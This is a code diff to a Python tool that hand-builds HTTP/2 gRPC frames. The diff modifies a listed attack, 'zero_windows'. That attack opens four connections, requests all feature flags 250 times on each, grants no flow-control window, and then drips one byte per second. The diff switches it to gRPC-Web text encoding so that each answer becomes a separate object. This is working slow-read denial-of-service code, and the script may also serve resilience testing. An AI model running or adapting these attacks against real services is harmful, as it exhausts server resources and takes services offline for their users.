@@ -16,6 +16,7 @@ import ipaddress
 import json
 import struct
 import sys
+from base64 import b64encode
 from collections.abc import Awaitable, Callable
 from contextlib import suppress
 from typing import Literal, NamedTuple
@@ -97,13 +98,14 @@ def _literal(name: bytes, value: bytes) -> bytes:
     return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value
 
 
-def request(stream: int, path: bytes, message: bytes, encoding: bytes = b"") -> bytes:
-    """One gRPC request."""
+def request(stream: int, path: bytes, message: bytes, encoding: bytes = b"", kind: bytes = b"") -> bytes:
+    """One gRPC request, or one of gRPC-Web in text, if that is the kind."""
     block = b"\x83\x86\x04" + bytes((len(path),)) + path + b"\x01\x01h"
-    block += _literal(b"content-type", b"application/grpc") + _literal(b"te", b"trailers")
+    block += _literal(b"content-type", kind or b"application/grpc") + _literal(b"te", b"trailers")
     if encoding:
         block += _literal(b"grpc-encoding", encoding)
     body = bytes((bool(encoding),)) + len(message).to_bytes(4, "big") + message
+    body = b64encode(body) if kind else body
     pieces = [body[at : at + 16_384] for at in range(0, len(body), 16_384)]
     frames = [frame(DATA, END_STREAM if piece is pieces[-1] else 0, stream, piece) for piece in pieces]
     return frame(HEADERS, END_HEADERS, stream, block) + b"".join(frames)
@@ -163,9 +165,11 @@ async def settings_entries(host: str, port: int, seconds: float) -> None:
 
 
 async def zero_windows(host: str, port: int, seconds: float) -> None:
-    """Four connections ask for everything 250 times each, grant nothing, and then one byte per second."""
-    message = blob(1, blob(1, blob(1, b"targetingKey") + blob(2, blob(3, b"user"))))
-    asked = b"".join(request(n, RESOLVE_ALL, message) for n in range(1, 501, 2))
+    """Four connections ask for all flags 250 times each, grant nothing, and then one byte per second.
+
+    In gRPC-Web as text, since each answer is then an object of its own.
+    """
+    asked = b"".join(request(n, RESOLVE_ALL, b"", kind=b"application/grpc-web-text") for n in range(1, 501, 2))
     drip = frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))
     client = Client(host, port)
     await asyncio.gather(*(client.repeat(seconds, greeting(0) + asked, lambda _: drip, pause=1.0) for _ in range(4)))
@@ -267,7 +271,7 @@ def main() -> int:
     options = parser.parse_args()
     if options.list or not options.name or not options.port:
         for each in ATTACKS:
-            print(f"{each.name:18} {each.role:11} {each.run.__doc__}")
+            print(f"{each.name:18} {each.role:11} {(each.run.__doc__ or '').splitlines()[0]}")
         return 0
     attack = next(each for each in ATTACKS if each.name == options.name)
     asyncio.run(attack.run(options.host, options.port, options.seconds))  # type: ignore[arg-type]
